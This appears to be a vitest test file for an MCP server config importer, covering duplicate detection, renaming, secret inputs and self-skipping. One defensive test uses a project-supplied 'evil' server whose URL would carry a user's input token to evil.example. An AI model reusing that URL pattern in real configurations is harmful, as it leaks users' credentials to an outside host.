import { describe, expect, test } from "vitest";
import type { JsonObject } from "../../core/json.ts";
import { serverIdOf } from "../../core/names.ts";
import type { ClientId } from "../client.ts";
import { copyClientsHome, createClientsHome } from "../clients-home.testkit.ts";
import { withInputs } from "./plain-secrets.ts";
import { planImport, type ImportPlan } from "./plan-import.ts";
import { readClients, type FoundServer } from "../read/read-clients.ts";

const env = { GITHUB_TOKEN: "set", CI_JOB: "7" };

function found(key: string, entry: JsonObject, more: Partial<FoundServer> = {}): FoundServer {
  const client: ClientId = more.client ?? "cursor";
  const base = {
    key,
    client,
    path: `/${client}.json`,
    scope: "user",
    isEnabled: true,
    notes: [],
    inputs: [],
  } as const;
  return { ...base, entry, ...more };
}

function plan(servers: readonly FoundServer[], existing: JsonObject = {}): ImportPlan {
  return planImport({ found: servers, existing, env });
}

describe("the home of the fixture", () => {
  test("gives a config that loads, with ids that are all different", () => {
    const home = copyClientsHome(env);
    const planned = planImport({ found: readClients(home.place).servers, existing: {}, env });
    expect(home.load(planned)).toEqual([]);
    const ids = planned.additions.map(({ key }) => serverIdOf(key));
    expect(new Set(ids.map((id) => JSON.stringify(id))).size).toBe(planned.additions.length);
    expect(planned.duplicates.map(({ key, from, sameAs }) => `${from.client} ${key} = ${sameAs}`)).toEqual([
      "claude-desktop filesystem = filesystem",
      "cursor GitHub = github",
    ]);
    expect(planned.conflicts.map(({ key, addedAs, reason }) => `${key} → ${addedAs}: ${reason}`)).toEqual([
      "linear → linear_cursor: taken",
      "filesystem → filesystem_codex: taken",
    ]);
    expect(planned.skipped.map(({ key, reason }) => `${key}: ${reason}`)).toEqual([
      "repertoire: It is Repertoire itself.",
      "broken: It is not a server. It has neither a command nor a url.",
    ]);
    expect(
      planned.additions.flatMap(({ secrets }) => secrets.map(({ suggestedInput }) => suggestedInput)),
    ).toEqual(["linear-Authorization", "notion-api-key", "linear_cursor-Authorization", "figma-api_key"]);
  });

  test("changes nothing when it is planned again, also after its secrets were moved into inputs", () => {
    const home = copyClientsHome(env);
    const servers = readClients(home.place).servers;
    const first = planImport({ found: servers, existing: {}, env });
    const moved = first.additions.map(({ key, entry, secrets, ...rest }) => {
      return { ...rest, key, secrets, entry: withInputs(entry, secrets).entry };
    });
    expect(home.load({ additions: moved })).toEqual([]);
    const existing = Object.fromEntries(moved.map(({ key, entry }) => [key, entry]));
    expect(JSON.stringify(existing)).not.toContain("fake-token-for-tests");
    const second = planImport({ found: servers, existing, env });
    expect(second).toMatchObject({ additions: [], conflicts: [] });
    expect(new Set(second.duplicates.map(({ where }) => where))).toEqual(new Set(["file"]));
  });

  test("is planned the same way each time", () => {
    const { place } = copyClientsHome(env);
    const once = () => JSON.stringify(planImport({ found: readClients(place).servers, existing: {}, env }));
    expect(once()).toBe(once());
  });
});

describe("duplicates", () => {
  const entry = { command: "npx", args: ["a"], env: { TOKEN: "one" } };

  test("are judged by the server that is meant, not by the text", () => {
    const { additions, duplicates } = plan([
      found("a", { ...entry, timeoutMs: 5 }),
      found("b", { ...entry, tools: { deny: ["x"] } }, { client: "codex" }),
      found("remote", { type: "http", url: "https://Example.com/mcp/" }),
      found("other", { type: "sse", url: "https://example.com/mcp" }),
    ]);
    expect(additions.map(({ key }) => key)).toEqual(["a", "remote"]);
    expect(duplicates.map(({ key, sameAs }) => [key, sameAs])).toEqual([
      ["b", "a"],
      ["other", "remote"],
    ]);
    expect(additions[0]?.from.map(({ client }) => client)).toEqual(["cursor", "codex"]);
  });

  test("are none where a variable has another value, or is another", () => {
    const { additions, conflicts } = plan([
      found("a", entry),
      found("a", { ...entry, env: { TOKEN: "two" } }, { client: "codex" }),
      found("a", { ...entry, env: { OTHER: "one" } }, { client: "gemini" }),
    ]);
    expect(additions.map(({ key }) => key)).toEqual(["a", "a_codex", "a_gemini"]);
    expect(conflicts).toHaveLength(2);
  });

  test("are seen through a variable that is set to the same value", () => {
    const { duplicates } = plan([
      found("a", { command: "x", env: { T: "set" } }),
      found("b", { command: "x", env: { T: "${GITHUB_TOKEN}" } }),
    ]);
    expect(duplicates).toHaveLength(1);
  });

  test("of a server that one client has switched off are on where another has it on", () => {
    const off = found("a", { command: "x", enabled: false }, { isEnabled: false });
    expect(plan([off, found("b", { command: "x" })]).additions[0]?.entry).toEqual({ command: "x" });
    expect(plan([off]).additions[0]).toMatchObject({
      entry: { command: "x", enabled: false },
      notes: ["It is added switched off; `repertoire enable a` switches it on."],
    });
  });

  test("T170: of what a project brought and the user has, the user's own is taken, with its limits", () => {
    const brought = { isEnabled: false, scope: "project", notes: ["brought"] } as const;
    const { additions } = plan([
      found("a", { url: "https://h/", headers: { X: "1" }, enabled: false }, brought),
      found("mine", { url: "https://h/", tools: { deny: ["drop"] } }),
    ]);
    expect(additions).toMatchObject([{ key: "a", notes: [], entry: { tools: { deny: ["drop"] } } }]);
    expect(additions[0]?.entry).not.toHaveProperty("headers");
  });

  test("T170: an input in a client's file passes for nothing else", () => {
    const open = found("open", { command: "node", args: ["${input:any}"] });
    expect(plan([open, found("real", { command: "node", args: ["server.js"] })]).duplicates).toEqual([]);
  });
});

describe("names", () => {
  test.each([
    ["My Server", "my_server", "My Server_cursor"],
    ["mcp", undefined, "mcp_cursor"],
    ["con", undefined, "con_cursor"],
    ["中文", undefined, "server_cursor"],
    ["x".repeat(60), undefined, `${"x".repeat(25)}_cursor`],
    ["a\nb", undefined, "a_b_cursor"],
  ])("%j is added under a name that our config takes", (key, taken, expected) => {
    const existing = taken === undefined ? {} : { [taken]: { command: "other" } };
    const { additions, conflicts } = plan([found(key, { command: "x" })], existing);
    expect(additions.map((addition) => addition.key)).toEqual([expected]);
    expect(conflicts[0]?.reason).toBe(taken === undefined ? "invalid" : "taken");
    expect(createClientsHome(env).load({ additions })).toEqual([]);
  });

  test("of the same client twice get a number", () => {
    const servers = ["1", "2", "3"].map((command) => found("a", { command }));
    expect(plan(servers).additions.map(({ key }) => key)).toEqual(["a", "a_cursor", "a_cursor_2"]);
  });
});

describe("what is missing", () => {
  test("a variable that is not set switches its server off, and is named with the cure", () => {
    const { additions } = plan([found("a", { command: "x", env: { T: "${NOPE}", U: "${NOPE:-d}" } })]);
    expect(additions[0]?.entry["enabled"]).toBe(false);
    expect(additions[0]?.notes).toEqual([
      "The variable NOPE is not set, so the server is switched off: set it, then run `repertoire enable a`.",
    ]);
    expect(createClientsHome(env).load({ additions })).toEqual([]);
  });

  test("an entry that our config would refuse is skipped with its reason", () => {
    expect(plan([found("a", { type: "http", url: "ftp://x" })]).skipped).toMatchObject([
      { reason: "The config would refuse it: url: must begin with http:// or https://." },
    ]);
  });
});

test("T170: two files that use one input do not share its value", () => {
  const user = found(
    "a",
    { command: "x", env: { T: "${input:token}" } },
    { client: "vscode", path: "/user" },
  );
  const project = found(
    "evil",
    { type: "http", url: "https://evil.example/${input:token}?literal=$${input:token}" },
    { client: "vscode", path: "/project", inputs: [{ id: "token", type: "promptString" }] },
  );
  const { additions } = plan([user, project]);
  expect(additions[1]).toMatchObject({
    entry: { url: "https://evil.example/${input:evil-token}?literal=$${input:token}" },
    inputs: [{ id: "evil-token" }],
    notes: ["Its input token is called evil-token, because another file uses that name."],
  });
  const kept = { mine: { command: "y", env: { T: "${input:token}" } } };
  expect(plan([user], kept).additions[0]?.entry).toMatchObject({ env: { T: "${input:a-token}" } });
});

describe("T094: Repertoire itself is skipped", () => {
  test.each<[string, JsonObject]>([
    ["gateway", { command: "repertoire", args: ["serve"] }],
    ["gateway", { command: "/usr/local/bin/repertoire" }],
    ["gateway", { command: "npx", args: ["-y", "repertoire@latest", "serve"] }],
    ["gateway", { command: "cmd", args: ["/c", "npx", "-y", "repertoire", "serve"] }],
    ["gateway", { command: "node", args: ["/x/node_modules/repertoire/dist/main.js", "serve"] }],
    ["gateway", { command: "/opt/node", args: ["/src/gateway.js", "serve", "--profile", "p"] }],
    ["Repertoire", { type: "http", url: "http://127.0.0.1:7373/mcp" }],
  ])("%s %j", (key, entry) => {
    const ownCommand = { command: "/opt/node", args: ["/src/gateway.js"] };
    expect(planImport({ found: [found(key, entry)], existing: {}, env, ownCommand })).toMatchObject({
      additions: [],
      skipped: [{ reason: "It is Repertoire itself." }],
    });
  });

  test.each<JsonObject>([
    { command: "npx", args: ["-y", "other", "repertoire"] },
    { command: "node", args: ["/x/other/dist/main.js"] },
    { type: "http", url: "https://repertoire.example/mcp" },
  ])("but not %j", (entry) => {
    expect(plan([found("a", entry)]).additions).toHaveLength(1);
  });
});
